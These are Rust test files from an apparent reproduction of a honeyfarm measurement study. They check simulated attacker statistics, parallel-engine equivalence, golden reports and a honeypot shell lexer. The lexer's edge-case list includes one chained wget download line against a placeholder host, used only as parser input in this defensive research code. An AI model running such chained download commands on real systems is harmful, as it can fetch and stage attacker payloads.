        &f.out.tags,
        HashSortKey::Sessions,
        20,
    );
    let top = &t4.rows[0];
    assert_eq!(top.campaign, "H1");
    assert_eq!(top.tag, "trojan");
    assert!(top.honeypots > 200, "H1 honeypots {}", top.honeypots);
    assert!(top.days > 440, "H1 days {}", top.days);
    // H1 dominates by ~20x or more (paper: >20× the next hash).
    assert!(top.sessions > 10 * t4.rows[1].sessions);
    // Tag mix of the top-20 by sessions: mirai + trojan + malicious present.
    let tags: Vec<&str> = t4.rows.iter().map(|r| r.tag.as_str()).collect();
    for t in ["mirai", "trojan", "malicious", "miner"] {
        assert!(tags.contains(&t), "{t} missing from top-20: {tags:?}");
    }
    // Table 6 (days): dominated by long-haul campaigns; mirai entries are
    // present and every campaign's honeypot count respects its subset (the
    // 75–77-node mirai family never exceeds 77).
    let t6 = tables::hash_table(&f.out.dataset, &f.agg, &f.out.tags, HashSortKey::Days, 20);
    assert!(t6.rows.iter().any(|r| r.tag == "mirai"), "{t6}");
    assert!(t6.rows.windows(2).all(|w| w[0].days >= w[1].days));
    for name in ["H24", "H25", "H32"] {
        let spec_nodes = 77u32;
        let row = tables::hash_table(&f.out.dataset, &f.agg, &f.out.tags, HashSortKey::Days, 5000)
            .rows
            .into_iter()
            .find(|r| r.campaign == name);
        if let Some(row) = row {
            assert!(row.honeypots <= spec_nodes, "{name}: {}", row.honeypots);
        }
    }
}

/// Section 7.1 volumes: clients and ASes scale to the paper's 2.1M / 17.7k.
#[test]
fn client_population_scales() {
    let f = fixture();
    // 2.1M × 0.002 = 4200; heavy reuse keeps us within a factor ~2.
    let clients = f.claims.total_clients as f64;
    assert!(clients > 2_000.0 && clients < 12_000.0, "{clients}");
    // Many ASes observed (breadth, not exact count).
    let mut ases: Vec<u32> = f
        .out
        .dataset
        .sessions
        .iter()
        .filter_map(|v| v.client_asn().map(|a| a.0))
        .collect();
    ases.sort_unstable();
    ases.dedup();
    assert!(ases.len() > 500, "AS breadth {}", ases.len());
}

/// Fig. 12: ~40% of clients contact one honeypot; a small share more than
/// half the farm. Fig. 13: around half the clients are active a single day;
/// >100 IPs are active nearly every day.
#[test]
fn client_spread_and_lifetime() {
    let f = fixture();
    assert!(
        (0.2..0.5).contains(&f.claims.clients_single_honeypot),
        "single-honeypot {}",
        f.claims.clients_single_honeypot
    );
    assert!(
        (0.10..0.35).contains(&f.claims.clients_gt10_honeypots),
        "gt10 {}",
        f.claims.clients_gt10_honeypots
    );
    assert!(
        f.claims.clients_gt_half < 0.05,
        "gt-half {}",
        f.claims.clients_gt_half
    );
    assert!(
        (0.30..0.65).contains(&f.claims.clients_single_day),
        "single-day {}",
        f.claims.clients_single_day
    );
    assert!(
        f.claims.clients_almost_daily >= 100,
        "{}",
        f.claims.clients_almost_daily
    );
}

/// Section 9: a large share of client IPs play more than one role.
#[test]
fn multi_role_clients() {
    let f = fixture();
    assert!(
        f.claims.multi_role_share > 0.2,
        "multi-role {}",
        f.claims.multi_role_share
    );
}

/// Section 8.4: >60% of hashes seen at exactly one honeypot; the hash-richest
/// honeypot holds <5% of all hashes; hash-rich ≠ session-rich; hash-rich
/// honeypots see hashes first.
#[test]
fn hash_coverage_claims() {
    let f = fixture();
    assert!(
        f.claims.hashes_single_honeypot > 0.6,
        "{}",
        f.claims.hashes_single_honeypot
    );
    assert!(
        f.claims.top_honeypot_hash_share < 0.05,
        "{}",
        f.claims.top_honeypot_hash_share
    );
    assert!(!f.claims.hash_top10_equals_session_top10);
    assert!(f.claims.hash_rich_are_early_observers);
    // >200 hashes seen by more than half the farm, scaled by the hash scale
    // (0.002 volume → √ ≈ 0.0447 → ≥ 4).
    assert!(f.claims.hashes_gt_half >= 4, "{}", f.claims.hashes_gt_half);
}

/// Fig. 7: NO_CMD sessions overwhelmingly end in the idle timeout; NO_CRED /
/// FAIL_LOG sessions mostly end before one minute; some CMD+URI sessions
/// outlive the 3-minute timeout.
#[test]
fn duration_shapes() {
    let f = fixture();
    let fig7 = figures::fig7(&f.agg);
    let ecdf = |cat: Category| {
        fig7.ecdfs
            .iter()
            .find(|(c, _)| *c == cat)
            .map(|(_, e)| e.clone())
            .unwrap()
    };
    assert!(ecdf(Category::NoCred).fraction_le(59) > 0.85);
    assert!(ecdf(Category::FailLog).fraction_le(59) > 0.85);
    // >90% of NO_CMD sessions reach the timeout (duration ≥ 180).
    assert!(ecdf(Category::NoCmd).fraction_le(179) < 0.10);
    // Some CMD+URI sessions cross 180 s.
    assert!(ecdf(Category::CmdUri).fraction_gt(180) > 0.01);
    // End-reason bookkeeping agrees.
    let no_cmd_timeouts = f.agg.cat_end_reasons[Category::NoCmd.index()][1] as f64;
    let no_cmd_total = f.agg.cat_totals[Category::NoCmd.index()] as f64;
    assert!(no_cmd_timeouts / no_cmd_total > 0.85);
}

/// Fig. 16: CMD+URI interactions are markedly more local than the overall mix.
#[test]
fn regional_locality() {
    let f = fixture();
    let fig16 = figures::fig16(&f.agg);
    let overall_out = fig16.mean_out_of_continent_only(0);
    let uri_out = fig16.mean_out_of_continent_only(5);
    assert!(
        uri_out < overall_out * 0.7,
        "CMD+URI out-only {uri_out} vs overall {overall_out}"
    );
    let uri_local = fig16.mean_local_touch(5);
    assert!(uri_local > 0.5, "CMD+URI local touch {uri_local}");
}

/// Fig. 17: fresh-hash dynamics — shorter memories are always fresher; the
/// daily fresh share varies widely (paper: 2%–60%).
#[test]
fn freshness_dynamics() {
    let f = fixture();
    let pts = &f.agg.freshness;
    assert!(pts.len() > 400, "hash activity on most days: {}", pts.len());
    for p in pts {
        assert!(p.fresh_7d >= p.fresh_30d);
        assert!(p.fresh_30d >= p.fresh_ever);
    }
    let fracs: Vec<f64> = pts.iter().skip(10).map(|p| p.frac_ever()).collect();
    let min = fracs.iter().cloned().fold(1.0, f64::min);
    let max = fracs.iter().cloned().fold(0.0, f64::max);
    assert!(min < 0.15, "min fresh {min}");
    assert!(max > 0.4, "max fresh {max}");
}

/// Fig. 10: client-origin countries — China leads overall; the US leads the
/// CMD+URI mix (Figs. 10/23).
#[test]
fn client_geography() {
    let f = fixture();
    let fig10 = figures::fig10(&f.agg);
    assert_eq!(
        fig10.overall[0].0,
        "CN",
        "overall top origin: {:?}",
        &fig10.overall[..3]
    );
    let uri = &fig10
        .per_category
        .iter()
        .find(|(c, _)| *c == Category::CmdUri)
        .unwrap()
        .1;
    assert_eq!(
        uri[0].0,
        "US",
        "CMD+URI top origin: {:?}",
        &uri[..3.min(uri.len())]
    );
}

/// Fig. 11: scanning ramps up visibly ~2 months in (sessions ramp ~2×; the
/// daily-IP ramp is muted at reduced scale because the fixed >100-strong
/// persistent-scanner core dominates small rosters, so only a mild IP
/// increase is required here).
#[test]
fn scanning_rampup() {
    let f = fixture();
    let mean = |v: &[u64], r: std::ops::Range<usize>| {
        let n = r.len() as f64;
        r.map(|d| v[d] as f64).sum::<f64>() / n
    };
    let scan_sessions = &f.agg.day_by_cat[Category::NoCred.index()];
    let early_s = mean(scan_sessions, 10..40);
    let late_s = mean(scan_sessions, 100..130);
    assert!(
        late_s > early_s * 1.6,
        "sessions early {early_s} late {late_s}"
    );
    let early_ips: f64 = (10..40)
        .map(|d| f.agg.day_unique_ips[d][Category::NoCred.index()] as f64)
        .sum::<f64>()
        / 30.0;
    let late_ips: f64 = (100..130)
        .map(|d| f.agg.day_unique_ips[d][Category::NoCred.index()] as f64)
        .sum::<f64>()
        / 30.0;
    assert!(
        late_ips > early_ips * 1.05,
        "ips early {early_ips} late {late_ips}"
    );
}

/// The dated anomalies: the 2022-09-05 FAIL_LOG spike and the NO_CMD
/// start/end windows (Fig. 6).
#[test]
fn dated_anomalies() {
    let f = fixture();
    let window = StudyWindow::paper();
    let sep5 = window
        .day_index(honeyfarm::simclock::Date::new(2022, 9, 5))
        .unwrap() as usize;
    let fail = &f.agg.day_by_cat[Category::FailLog.index()];
    let neighborhood: f64 = (sep5 - 10..sep5).map(|d| fail[d] as f64).sum::<f64>() / 10.0;
    assert!(
        fail[sep5] as f64 > neighborhood * 3.0,
        "2022-09-05 spike: {} vs baseline {neighborhood}",
        fail[sep5]
    );
    // NO_CMD share high at start and end, low in the middle.
    let no_cmd_share = |range: std::ops::Range<usize>| {
        let cat: u64 = range.clone().map(|d| f.agg.day_by_cat[2][d]).sum();
        let tot: u64 = range.map(|d| f.agg.day_total[d]).sum();
        cat as f64 / tot.max(1) as f64
    };
    let start = no_cmd_share(0..60);
    let middle = no_cmd_share(200..260);
    let end = no_cmd_share(420..480);
    assert!(start > middle * 3.0, "start {start} vs middle {middle}");
    assert!(end > middle * 3.0, "end {end} vs middle {middle}");
    assert!(start > 0.15, "start share {start}");
}
