//! Paper-claims regression suite, driven by the testkit's declarative
//! claim table (`honeyfarm::testkit::claims`): every Table 1/4–6 number and
//! figure shape the reproduction asserts lives in one `ClaimSpec` row,
//! shared with `hfarm verify --claims`, so the test suite and the
//! EXPERIMENTS.md report can never drift apart.
//!
//! The fixture runs the canonical full-window simulation exactly twice —
//! threads = 1 and threads = 8 — and first proves them bit-identical with
//! the differential oracle, so the claims below are simultaneously a
//! regression suite for the parallel engine at full scale.

use std::sync::OnceLock;

use honeyfarm::prelude::*;
use honeyfarm::testkit::{claims, diff_sim_outputs};

fn fixture() -> &'static SimOutput {
    static FIXTURE: OnceLock<SimOutput> = OnceLock::new();
    FIXTURE.get_or_init(|| {
        let base = SimConfig {
            seed: 0x0e0e_fa20,
            scale: Scale::of(0.002),
            window: StudyWindow::paper(),
            use_script_cache: false,
            threads: 1,
        };
        let serial = Simulation::run(base.clone());
        let parallel = Simulation::run(SimConfig { threads: 8, ..base });
        let report = diff_sim_outputs("threads=1", &serial, "threads=8", &parallel);
        assert!(
            report.is_identical(),
            "full-window thread differential failed:\n{}",
            report.render()
        );
        serial
    })
}

/// Every claim in the declarative table holds on the canonical fixture.
/// On failure the message lists each out-of-tolerance claim with its
/// paper expectation and the measured value.
#[test]
fn all_paper_claims_hold() {
    let ctx = claims::ClaimCtx::new(fixture());
    let results = claims::evaluate(&ctx);
    assert!(results.len() >= 40, "claim table unexpectedly small");
    let failed: Vec<_> = results.iter().filter(|r| !r.pass).collect();
    assert!(
        failed.is_empty(),
        "{} claim(s) out of tolerance:\n{}",
        failed.len(),
        claims::render_text(&results)
    );
}

/// The claim table covers every paper surface the suite used to assert
/// piecemeal: all five categories, the hash tables, and each figure family.
#[test]
fn claim_table_covers_the_paper_surfaces() {
    let ids: Vec<&str> = claims::claim_specs().iter().map(|s| s.id).collect();
    for prefix in [
        "table1.", "table2.", "table3.", "table4.", "table6.", "fig2.", "fig7.", "fig10.",
        "fig11.", "fig12.", "fig13.", "fig16.", "fig17.", "clients.", "hashes.", "roles.",
        "anomaly.",
    ] {
        assert!(
            ids.iter().any(|id| id.starts_with(prefix)),
            "no claim covers {prefix}*"
        );
    }
}
