//! Golden-pinned run manifests: the *structure* of what a run records —
//! which counters exist, which spans fire and how often, what the
//! histograms hold — is part of the observable contract and is pinned
//! byte-for-byte under `tests/goldens/`.
//!
//! Durations are inherently non-deterministic, so the run executes under
//! the obs test-mode zero clock ([`obs::set_zero_clock`]), which makes
//! every wall/CPU reading 0 ns; `zero_timings` is applied on top as belt
//! and braces. Everything else in the manifest is a pure function of the
//! seeded input, so the files are stable across machines.
//!
//! Refresh after an intended instrumentation change with:
//!
//! ```text
//! UPDATE_GOLDENS=1 cargo test --test obs_goldens
//! ```

use std::path::PathBuf;

use honeyfarm::core::{Aggregates, Report};
use honeyfarm::obs;
use honeyfarm::prelude::*;
use honeyfarm::testkit::assert_golden;

fn golden(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join(format!("tests/goldens/{name}"))
}

/// One deterministic serial pipeline run, recorded under the zero clock,
/// must reproduce the pinned `metrics.json` and `spans.tsv` exactly —
/// and survive a disk round-trip unchanged.
#[test]
fn manifest_structure_is_golden_pinned() {
    obs::reset();
    obs::set_zero_clock(true);
    obs::enable();

    let cfg = SimConfig::test(4);
    let out = Simulation::run(cfg.clone());
    let mut snapshot_bytes = Vec::new();
    out.to_snapshot(&cfg)
        .write_to(&mut snapshot_bytes)
        .expect("snapshot encode");
    let _reloaded = SimOutput::from_snapshot(
        Snapshot::read_from(&mut &snapshot_bytes[..]).expect("snapshot decode"),
    );
    let agg = Aggregates::compute_threaded(&out.dataset, 1);
    let report = Report::build_with_tags_threaded(&out.dataset, &agg, &out.tags, 1);
    let render_dir = std::env::temp_dir().join(format!("hf-obs-goldens-{}", std::process::id()));
    report.write_dir(&render_dir).expect("render report");

    let mut manifest = obs::manifest("obs_goldens");
    obs::disable();
    obs::set_zero_clock(false);
    obs::reset();
    manifest.zero_timings();

    assert_golden(&golden("obs_metrics.json.golden"), &manifest.to_json());
    assert_golden(&golden("obs_spans.tsv.golden"), &manifest.spans_tsv());

    // The pinned manifest also survives write_dir → load_dir untouched.
    let manifest_dir = render_dir.join("metrics");
    manifest
        .write_dir(&manifest_dir)
        .expect("write manifest dir");
    let reloaded = obs::RunManifest::load_dir(&manifest_dir).expect("reload manifest");
    assert_eq!(reloaded, manifest);
    std::fs::remove_dir_all(&render_dir).ok();
}
