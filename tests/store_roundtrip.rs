//! Property tests: the columnar session store is a lossless encoding of
//! session records (for every field the analyses read).

use honeyfarm::farm::SessionStore;
use honeyfarm::geo::Ip4;
use honeyfarm::hash::Sha256;
use honeyfarm::honeypot::{EndReason, LoginAttempt, SessionRecord};
use honeyfarm::proto::creds::Credentials;
use honeyfarm::proto::Protocol;
use honeyfarm::shell::CommandRecord;
use honeyfarm::simclock::SimInstant;
use proptest::prelude::*;

fn arb_record() -> impl Strategy<Value = SessionRecord> {
    (
        0u16..221,
        prop::bool::ANY,
        any::<u32>(),
        1u16..u16::MAX,
        0u32..486,
        0u32..86_400,
        0u32..400,
        0u8..3,
        prop::collection::vec(
            ("[a-z]{1,8}", "[ -~&&[^\\\\]]{0,12}", prop::bool::ANY),
            0..4,
        ),
        prop::collection::vec(("[a-z /.-]{1,24}", prop::bool::ANY), 0..5),
        prop::collection::vec("[a-z0-9./:-]{5,30}", 0..3),
        prop::collection::vec(any::<u64>(), 0..4),
    )
        .prop_map(
            |(hp, ssh, ip, port, day, secs, dur, end, logins, cmds, uris, hashes)| {
                let mut uris: Vec<String> =
                    uris.into_iter().map(|u| format!("http://{u}")).collect();
                uris.sort();
                uris.dedup();
                SessionRecord {
                    honeypot: hp,
                    protocol: if ssh { Protocol::Ssh } else { Protocol::Telnet },
                    client_ip: Ip4(ip),
                    client_port: port,
                    start: SimInstant::from_day_and_secs(day, secs),
                    duration_secs: dur,
                    ended_by: match end {
                        0 => EndReason::ClientClose,
                        1 => EndReason::Timeout,
                        _ => EndReason::AuthLimit,
                    },
                    ssh_client_version: ssh.then(|| "SSH-2.0-Go".to_string()),
                    logins: logins
                        .into_iter()
                        .map(|(u, p, ok)| LoginAttempt {
                            creds: Credentials::new(&u, &p),
                            accepted: ok,
                        })
                        .collect(),
                    commands: cmds
                        .into_iter()
                        .map(|(input, known)| CommandRecord { input, known })
                        .collect(),
                    uris,
                    file_hashes: hashes
                        .iter()
                        .map(|h| Sha256::digest(&h.to_le_bytes()))
                        .collect(),
                    download_hashes: vec![],
                }
            },
        )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Every field the analyses read survives the ingest → view roundtrip.
    #[test]
    fn prop_store_roundtrip(records in prop::collection::vec(arb_record(), 1..40)) {
        let mut store = SessionStore::new();
        for r in &records {
            store.ingest(r, None);
        }
        prop_assert_eq!(store.len(), records.len());
        for (i, r) in records.iter().enumerate() {
            let v = store.view(i);
            prop_assert_eq!(v.honeypot(), r.honeypot);
            prop_assert_eq!(v.protocol(), r.protocol);
            prop_assert_eq!(v.client_ip(), r.client_ip);
            prop_assert_eq!(v.start(), r.start);
            prop_assert_eq!(v.duration_secs(), r.duration_secs);
            prop_assert_eq!(v.ended_by(), r.ended_by);
            prop_assert_eq!(v.ssh_version().map(|s| s.to_string()), r.ssh_client_version.clone());
            let logins: Vec<(String, String, bool)> = v
                .logins()
                .map(|(u, p, ok)| (u.to_string(), p.to_string(), ok))
                .collect();
            let want: Vec<(String, String, bool)> = r
                .logins
                .iter()
                .map(|l| (l.creds.username.clone(), l.creds.password.clone(), l.accepted))
                .collect();
            prop_assert_eq!(logins, want);
            let cmds: Vec<(String, bool)> =
                v.commands().map(|(c, k)| (c.to_string(), k)).collect();
            let want: Vec<(String, bool)> =
                r.commands.iter().map(|c| (c.input.clone(), c.known)).collect();
            prop_assert_eq!(cmds, want);
            let uris: Vec<String> = v.uris().map(|u| u.to_string()).collect();
            prop_assert_eq!(uris, r.uris.clone());
            let hashes: Vec<_> = v.file_hashes().collect();
            prop_assert_eq!(hashes, r.file_hashes.clone());
        }
    }

    /// Classification is a pure function of the record, stable through the
    /// store (partition invariant: exactly one category per session).
    #[test]
    fn prop_classification_partitions(records in prop::collection::vec(arb_record(), 1..60)) {
        use honeyfarm::core::classify::{classify, Category};
        let mut store = SessionStore::new();
        for r in &records {
            store.ingest(r, None);
        }
        let mut counts = [0usize; 5];
        for v in store.iter() {
            counts[classify(&v).index()] += 1;
        }
        prop_assert_eq!(counts.iter().sum::<usize>(), records.len());
        // Cross-check a few invariants of the taxonomy.
        for v in store.iter() {
            match classify(&v) {
                Category::NoCred => prop_assert!(!v.attempted_login()),
                Category::FailLog => {
                    prop_assert!(v.attempted_login());
                    prop_assert!(!v.login_succeeded());
                }
                Category::NoCmd => {
                    prop_assert!(v.login_succeeded());
                    prop_assert_eq!(v.n_commands(), 0);
                }
                Category::Cmd => {
                    prop_assert!(v.n_commands() > 0);
                    prop_assert!(!v.has_uri());
                }
                Category::CmdUri => prop_assert!(v.has_uri()),
            }
        }
    }
}
