//! Parallel analysis engine conformance: the sharded `Aggregates` fold and
//! the fused/threaded `Report::build` must be indistinguishable from their
//! serial, unfused predecessors.
//!
//! Three surfaces are pinned:
//!
//! 1. `Aggregates::compute_threaded` at 2 and 8 workers is field-identical
//!    to the serial fold, proven by the testkit's `diff_aggregates` oracle
//!    (which names the diverging field instead of a bare assert).
//! 2. The fused report builders (shared top-5% selection, one-pass client
//!    ECDFs, concurrent builder groups) render byte-identical TSVs to the
//!    per-figure paths, proven by `diff_reports` plus direct comparison
//!    against the individually-built artifacts.
//! 3. The rendered report matches a checked-in golden byte-for-byte, so
//!    the `BufWriter`-based `write_dir`/`write_tsv` refactor cannot drift
//!    from the historical `String`-building output. Regenerate after an
//!    intended change with `UPDATE_GOLDENS=1 cargo test --test
//!    analysis_parallel`.

use std::path::PathBuf;

use honeyfarm::core::report::figures;
use honeyfarm::prelude::*;
use honeyfarm::testkit::{assert_golden, diff_aggregates, diff_reports};

fn run_small() -> SimOutput {
    Simulation::run(SimConfig {
        seed: 0xa11a,
        scale: Scale::of(0.001),
        window: StudyWindow::first_days(30),
        use_script_cache: false,
        threads: 1,
    })
}

/// The sharded fold is field-identical to the serial one at every thread
/// count, including more workers than the day-aligned split can use.
#[test]
fn parallel_aggregates_identical_to_serial() {
    let out = run_small();
    let serial = Aggregates::compute(&out.dataset);
    assert!(serial.total_sessions > 0, "fixture must not be empty");
    for threads in [2usize, 8] {
        let parallel = Aggregates::compute_threaded(&out.dataset, threads);
        diff_aggregates(
            "threads=1",
            &serial,
            &format!("threads={threads}"),
            &parallel,
        )
        .assert_identical();
    }
}

/// The threaded report build renders every artifact byte-identically to the
/// serial build, and the fused builders match the individual per-figure
/// paths they replaced.
#[test]
fn fused_report_matches_prefusion_reference() {
    let out = run_small();
    let agg = Aggregates::compute(&out.dataset);
    let serial = Report::build_with_tags(&out.dataset, &agg, &out.tags);
    for threads in [2usize, 8] {
        let threaded = Report::build_with_tags_threaded(&out.dataset, &agg, &out.tags, threads);
        diff_reports(
            "threads=1",
            &serial,
            &format!("threads={threads}"),
            &threaded,
        )
        .assert_identical();
    }

    // Pre-fusion reference: each figure built on its own, with its own
    // top-5% selection / clients pass, must equal the fused output.
    assert_eq!(
        serial.fig3.to_tsv(),
        figures::fig_bands(&agg, true).to_tsv(),
        "fig3 (top-5% bands) drifted from the standalone builder"
    );
    assert_eq!(
        serial.fig4.to_tsv(),
        figures::fig_bands(&agg, false).to_tsv(),
        "fig4 (all-honeypot bands) drifted from the standalone builder"
    );
    assert_eq!(
        serial.fig8.to_tsv(),
        figures::fig_cat_bands(&agg, false).to_tsv(),
        "fig8 drifted from the standalone builder"
    );
    assert_eq!(
        serial.fig9.to_tsv(),
        figures::fig_cat_bands(&agg, true).to_tsv(),
        "fig9 drifted from the standalone builder"
    );
    assert_eq!(
        serial.fig12.to_tsv(),
        figures::fig12(&agg).to_tsv(),
        "fig12 drifted from the one-pass client ECDF builder"
    );
    assert_eq!(
        serial.fig13.to_tsv(),
        figures::fig13(&agg).to_tsv(),
        "fig13 drifted from the one-pass client ECDF builder"
    );
}

/// `write_dir` (the buffered-writer path) produces byte-identical files to
/// the in-memory `to_tsv` strings, and those strings match the checked-in
/// golden.
#[test]
fn report_tsv_bytes_are_golden() {
    let out = run_small();
    let agg = Aggregates::compute(&out.dataset);
    let report = Report::build_with_tags(&out.dataset, &agg, &out.tags);

    let dir = std::env::temp_dir().join(format!("hf_analysis_golden_{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    report.write_dir(&dir).expect("write_dir succeeds");

    // Writer path == string path, byte for byte, for a representative
    // artifact from each format family (counts, {:.1}, {:.4}, {:.2}%).
    for (file, tsv) in [
        ("table1.tsv", report.table1.to_tsv()),
        ("table4.tsv", report.table4.to_tsv()),
        ("fig03_bands_top5.tsv", report.fig3.to_tsv()),
        ("fig06_category_timeseries.tsv", report.fig6.to_tsv()),
        ("fig12_spread_ecdf.tsv", report.fig12.to_tsv()),
    ] {
        let on_disk = std::fs::read(dir.join(file)).unwrap_or_else(|e| panic!("{file}: {e}"));
        assert_eq!(on_disk, tsv.into_bytes(), "{file}: writer path diverged");
    }
    std::fs::remove_dir_all(&dir).ok();

    // And the rendered bytes themselves are pinned against a golden.
    let mut bundle = String::new();
    for (name, tsv) in [
        ("table1", report.table1.to_tsv()),
        ("table2", report.table2.to_tsv()),
        ("table4", report.table4.to_tsv()),
        ("fig3", report.fig3.to_tsv()),
        ("fig6", report.fig6.to_tsv()),
        ("fig12", report.fig12.to_tsv()),
        ("fig15", report.fig15.to_tsv()),
        ("fig22", report.fig22.to_tsv()),
    ] {
        bundle.push_str("=== ");
        bundle.push_str(name);
        bundle.push_str(" ===\n");
        bundle.push_str(&tsv);
    }
    let golden =
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/goldens/analysis_report.golden");
    assert_golden(&golden, &bundle);
}
