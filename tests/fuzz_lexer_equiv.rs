//! Differential oracle: the arena lexer vs the preserved reference lexer.
//!
//! The session hot path parses with [`hf_shell::LineBuf`] — a byte-slice,
//! allocation-reusing parser. The pre-refactor allocating implementation is
//! preserved verbatim as `hf_shell::lexer::reference` precisely so this
//! suite can hold the two against each other: for *any* input line, the
//! arena parser must produce token-for-token, field-for-field identical
//! structure to the original.
//!
//! Three input sources drive the comparison:
//!
//! * the vendored-proptest command-line strategies (realistic intruder
//!   composition plus raw printable noise),
//! * the checked-in Cowrie-style corpus (`tests/scenarios/corpus_commands.txt`),
//!   including its hostile-quoting and UTF-8 sections,
//! * a hand-picked set of adversarial edge cases (unterminated quotes,
//!   dangling escapes, operator runs, high-byte and multi-byte input).
//!
//! Equality is asserted twice per line: once on the owned
//! [`hf_shell::Statement`] form (which exercises `LineBuf::to_statements`)
//! and once walking the borrowed views (`statements()` / `commands()` /
//! `argv()` / `redirs()`), so the zero-copy accessors are proven against
//! the same oracle rather than trusted to match the owned conversion.

use honeyfarm::shell::lexer::reference;
use honeyfarm::shell::{LineBuf, Redirection, Statement};
use honeyfarm::testkit::{command_line, uri_command_line};
use proptest::prelude::*;

/// Assert the arena parser and the reference parser agree on `line`, at
/// both the owned-statement and borrowed-view levels.
fn assert_equivalent(line: &str) {
    let expected: Vec<Statement> = reference::split_statements(line);

    // Owned boundary.
    let mut buf = LineBuf::new();
    buf.parse(line);
    let owned = buf.to_statements();
    assert_eq!(owned, expected, "owned statements diverge for {line:?}");

    // Borrowed views, field by field.
    let views: Vec<_> = buf.statements().collect();
    assert_eq!(views.len(), expected.len(), "statement count for {line:?}");
    for (view, stmt) in views.iter().zip(&expected) {
        assert_eq!(view.chain(), stmt.chain, "chain for {line:?}");
        assert_eq!(
            view.pipeline_len(),
            stmt.pipeline.len(),
            "pipeline length for {line:?}"
        );
        for (cmd_view, cmd) in view.commands().zip(&stmt.pipeline) {
            let argv: Vec<&str> = cmd_view.argv().iter().collect();
            assert_eq!(argv, cmd.argv, "argv for {line:?}");
            assert_eq!(cmd_view.name(), cmd.argv.first().map(String::as_str));
            let redirs: Vec<Redirection> = cmd_view
                .redirs()
                .map(|r| {
                    use honeyfarm::shell::lexer::RedirView;
                    match r {
                        RedirView::Out(t) => Redirection::Out(t.to_string()),
                        RedirView::Append(t) => Redirection::Append(t.to_string()),
                        RedirView::In(t) => Redirection::In(t.to_string()),
                        RedirView::Err(t) => Redirection::Err(t.to_string()),
                        RedirView::ErrToOut => Redirection::ErrToOut,
                    }
                })
                .collect();
            assert_eq!(redirs, cmd.redirs, "redirs for {line:?}");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Generated intruder-style command lines (quoting, pipes, chains,
    /// redirections, raw noise) parse identically under both lexers.
    #[test]
    fn generated_lines_lex_identically(line in command_line()) {
        assert_equivalent(&line);
    }

    /// URI-biased lines (download tool invocations with generated hosts
    /// and paths) parse identically under both lexers.
    #[test]
    fn uri_lines_lex_identically(line in uri_command_line()) {
        assert_equivalent(&line);
    }
}

/// Every line of the checked-in corpus — including the hostile-quoting and
/// UTF-8 sections — parses identically under both lexers.
#[test]
fn corpus_lines_lex_identically() {
    let path = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/scenarios/corpus_commands.txt");
    let corpus = std::fs::read_to_string(&path).expect("corpus file");
    let mut n = 0usize;
    for line in corpus.lines() {
        if line.trim().is_empty() || line.trim_start().starts_with('#') {
            continue;
        }
        n += 1;
        // Untrimmed: leading/trailing whitespace is lexer input too.
        assert_equivalent(line);
    }
    assert!(n >= 70, "corpus unexpectedly small: {n} lines");
}

/// Adversarial edge cases targeted at the places a byte-slice rewrite most
/// plausibly diverges: quote state machines, escape handling at end of
/// input, operator fusing (`2>`, `2>&1`, `&&`, `||`, `>>`), and non-ASCII
/// transcoding.
#[test]
fn hostile_edges_lex_identically() {
    const EDGES: &[&str] = &[
        "",
        " ",
        "\t\t",
        "'",
        "\"",
        "\\",
        "'\\",
        "\"\\",
        "\"\\\"",
        "'''",
        "\"\"\"",
        "a'",
        "a\"",
        "a\\",
        "2>",
        "2>&",
        "2>&1",
        "2>&2",
        "a 2>&1",
        "a2>&1",
        "22>x",
        ">",
        ">>",
        ">>>",
        "<",
        "<<",
        "<>",
        "><",
        "&",
        "&&",
        "&&&",
        "|",
        "||",
        "|||",
        "||||",
        ";|;|;",
        "a;b;c;d",
        "a|b|c|d",
        "a&&b||c;d",
        "a > b > c >> d < e",
        "echo '2>&1' \"2>&1\" 2>&1",
        "echo \"a'b\" 'c\"d'",
        "echo 'it'\\''s'",
        "echo \"\\$HOME \\`cmd\\` \\\\ \\\" \\n\"",
        "echo \\' \\\" \\\\",
        "wget http://h/p;wget http://h/q&&wget http://h/r",
        "é",
        "'é'",
        "\"é\"",
        "\\é",
        "日本語",
        "echo \u{fffd}",
        "echo \u{0080}\u{00ff}",
        "ü>ö",
        "ü 2>ö",
        "мир&&мир",
        "路|径",
        "sh -c \"echo 'nested \\\"deep\\\" quote'\"",
    ];
    for line in EDGES {
        assert_equivalent(line);
    }
}
