//! # honeyfarm
//!
//! A production-quality Rust reproduction of *"Fifteen Months in the Life of
//! a Honeyfarm"* (IMC 2023): a from-scratch Cowrie-class SSH/Telnet
//! honeypot, a 221-node honeyfarm with a central collector, a calibrated
//! synthetic attacker ecosystem standing in for the paper's private dataset,
//! and the complete measurement pipeline reproducing every table and figure.
//!
//! ## Crate map
//!
//! | module | crate | role |
//! |---|---|---|
//! | [`hash`] | `hf-hash` | SHA-256 / hex / FNV-1a, from scratch |
//! | [`simclock`] | `hf-simclock` | civil calendar, day windows |
//! | [`geo`] | `hf-geo` | synthetic Internet registry + geolocation |
//! | [`proto`] | `hf-proto` | SSH ident strings, Telnet codec, credentials |
//! | [`shell`] | `hf-shell` | the emulated Unix shell |
//! | [`honeypot`] | `hf-honeypot` | session state machine + records + logs |
//! | [`farm`] | `hf-farm` | deployment, collector, columnar store |
//! | [`agents`] | `hf-agents` | the attacker ecosystem |
//! | [`sim`] | `hf-sim` | the 15-month simulator |
//! | [`core`] | `hf-core` | classification, metrics, tables & figures |
//! | [`cluster`] | `hf-cluster` | attacker clustering: features + seeded k-means |
//! | [`testkit`] | `hf-testkit` | scenario replay, differential oracles, fuzzing |
//! | [`obs`] | `hf-obs` | runtime metrics, span timing, run manifests |
//! | [`wire`] | `hf-wire` | live TCP farm: epoll reactor, loadgen, wire client |
//!
//! ## Quickstart
//!
//! ```no_run
//! use honeyfarm::prelude::*;
//!
//! // Simulate a (scaled-down) fifteen months of honeyfarm traffic …
//! let out = Simulation::run(SimConfig::default());
//! // … run the paper's measurement pipeline over it …
//! let agg = Aggregates::compute(&out.dataset);
//! // … and reproduce the paper's tables.
//! let report = Report::build_with_tags(&out.dataset, &agg, &out.tags);
//! println!("{}", report.table1);
//! println!("{}", Claims::compute(&agg));
//! ```

pub use hf_agents as agents;
pub use hf_cluster as cluster;
pub use hf_core as core;
pub use hf_farm as farm;
